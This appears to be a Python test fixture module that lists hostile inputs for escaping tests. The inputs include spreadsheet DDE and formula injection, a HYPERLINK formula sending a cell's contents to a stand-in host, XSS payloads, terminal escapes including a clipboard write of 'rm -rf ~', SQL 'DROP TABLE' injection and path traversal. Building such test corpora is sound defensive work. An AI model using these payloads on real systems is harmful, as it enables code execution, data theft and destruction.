"""Texts that some reader would take for something else (攻击文本)."""

from __future__ import annotations

import re

import pytest

LONG = "甲" * 100_000
"""A text longer than most places hold."""
KINDS: dict[str, dict[str, str]] = {
    "spreadsheets": {
        "formula": "=1+1",
        "dde": "=cmd|' /C calc'!A0",
        "plus": "+cmd|' /C calc'!A0",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "tab before a formula": "\t=1+1",
        "return before a formula": "\r=1+1",
        "break before a formula": "\n=1+1",
        "blank before a formula": " =1+1",
        "wide blank before a formula": "\u3000=1+1",
        "full-width formula": "\uff1d1\uff0b1",
        "link formula": '=HYPERLINK("http://example.invalid?"&A1,"点我")',
        "address": "http://example.invalid/x",
        "mail address": "mailto:x@example.invalid",
        "file address": "file:///etc/passwd",
        "inner link": "internal:Sheet1!A1",
        "rich text of a writer": "<r><t>a</t></r>",
        "half rich text of a writer": "<r>a",
        "escape of a workbook": "_x0041_",
        "separator and formula": '1","=1+1',
        "sheet name": "[]:*?/\\'",
    },
    "pages": {
        "script": "<script>alert(1)</script>",
        "end of script": "</script></style></title><script>alert(1)</script>",
        "attribute": '"><img src=x onerror=alert(1)>',
        "attribute in single quotes": "' onmouseover='alert(1)",
        "end of cdata": "]]><svg onload=alert(1)>",
        "comment": "--><!-- <?xml ?> <!DOCTYPE x [<!ENTITY a 'b'>]>",
        "entity": "&lt;b&gt; &amp; &#60;script&#62; &nbsp",
        "javascript": "javascript:alert(1)",
        "style": "</style>};expression(alert(1))",
    },
    "terminals": {
        "colour": "\x1b[31m[红]\x1b[0m",
        "erased screen": "\x1b[2J\x1b[1;1H已达标",
        "link of a terminal": "\x1b]8;;http://example.invalid\x07点我\x1b]8;;\x07",
        "clipboard of a terminal": "\x1b]52;c;cm0gLXJmIH4K\x07",
        "title of a terminal": "\x1b]0;x\x1b\\",
        "device control": "\x1bP$qm\x1b\\",
        "bell": "\x07\x08\x08",
        "line overwritten": "未达标\r已达标",
        "eight-bit control": "\x9b31m\x9d0;x\x9c\x90x\x9c",
        "right to left override": "\u202egpj.exe\u2066x\u200f",
        "left open isolate": "\u2067\u2068",
        "zero width": "甲\u200b\u200d\u2060\ufeff乙",
        "invisible letters": "甲\U000e0041\U000e0042乙",
    },
    "lines": {
        "event": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:y",
        "bare break": "x\nEND:VCALENDAR\nBEGIN:VCALENDAR",
        "alarm": "x;VALUE=URI:http://example.invalid\\n,\\;",
        "breaks of some readers": "a\u2028b\u2029c\x85d\x0be\x0cf\x1cg\x1dh\x1ei",
    },
    "Markdown": {
        "link": "[点我](javascript:alert(1))",
        "picture": "![x](http://example.invalid/a.png)",
        "reference": "[甲]: http://example.invalid",
        "footnote": "[^1]: x",
        "bare addresses": "www.example.invalid ftp://example.invalid",
        "address in brackets": "<http://example.invalid>",
        "table": "a | b || c\n|---|---|\n| d |",
        "code": "`x` ``` ~~~",
        "fence": "```\n# x\n```",
        "heading": "# x",
        "underlined heading": "x\n===",
        "list": "- x\n1. y\n+ z",
        "quotation": "> x",
        "emphasis": "*x* **y** __z__ ~~w~~",
        "rule": "***",
        "maths": "$x$ $$y$$",
    },
    "databases": {
        "end of statement": "'; DROP TABLE ledger_entries; --",
        "quoted name": '" FROM x; --',
        "parameter": "?1 :a $1 %s %(x)s {x}",
        "pattern": "%_",
    },
    "files": {
        "path upwards": "../../x",
        "path": "/etc/passwd",
        "windows path": "C:\\x\\..\\y",
        "device": "CON",
        "stream": "x.txt:y",
        "hidden": ".x",
    },
    "characters": {
        "nul": "a\0b",
        "half a character": "a\ud800b",
        "other half": "\udfff",
        "no character": "a\ufffe\uffff\ufdd0b",
        "right to left": "שלום مرحبا",
        "combining": "z" + "\u0301" * 50,
        "letter of four bytes": "𠮷" * 40,
    },
}  # fmt: skip
"""By what they are meant for, and by what they try."""

ATTACKS = {name: text for kind in KINDS.values() for name, text in kind.items()}
TOGETHER = {kind: " ".join(texts.values()) for kind, texts in KINDS.items()}
"""All of a kind in one text, for readers to whom the beginning of a text is nothing special."""

each_attack = pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
each_kind = pytest.mark.parametrize("attack", TOGETHER.values(), ids=TOGETHER)


def tame(number: int) -> str:
    """A text that tries nothing, for the twin of what holds the attacks."""
    return f"无害{number}"


def named(text: str) -> str:
    """``text`` as what must say something may be called: not blank, nothing blank around it, no NUL."""
    return text.replace("\0", "").strip()


_ESCAPE = re.compile(r"\\(?:x([0-9a-f]{2})|u([0-9a-f]{4})|U([0-9a-f]{8})|([tnr]))")


def meant(shown: str) -> str:
    """What is meant by a text with visible escapes; written apart from what makes them."""

    def character(found: re.Match[str]) -> str:
        code = found[1] or found[2] or found[3]
        return chr(int(code, 16)) if code else {"t": "\t", "n": "\n", "r": "\r"}[found[4]]

    return _ESCAPE.sub(character, shown)
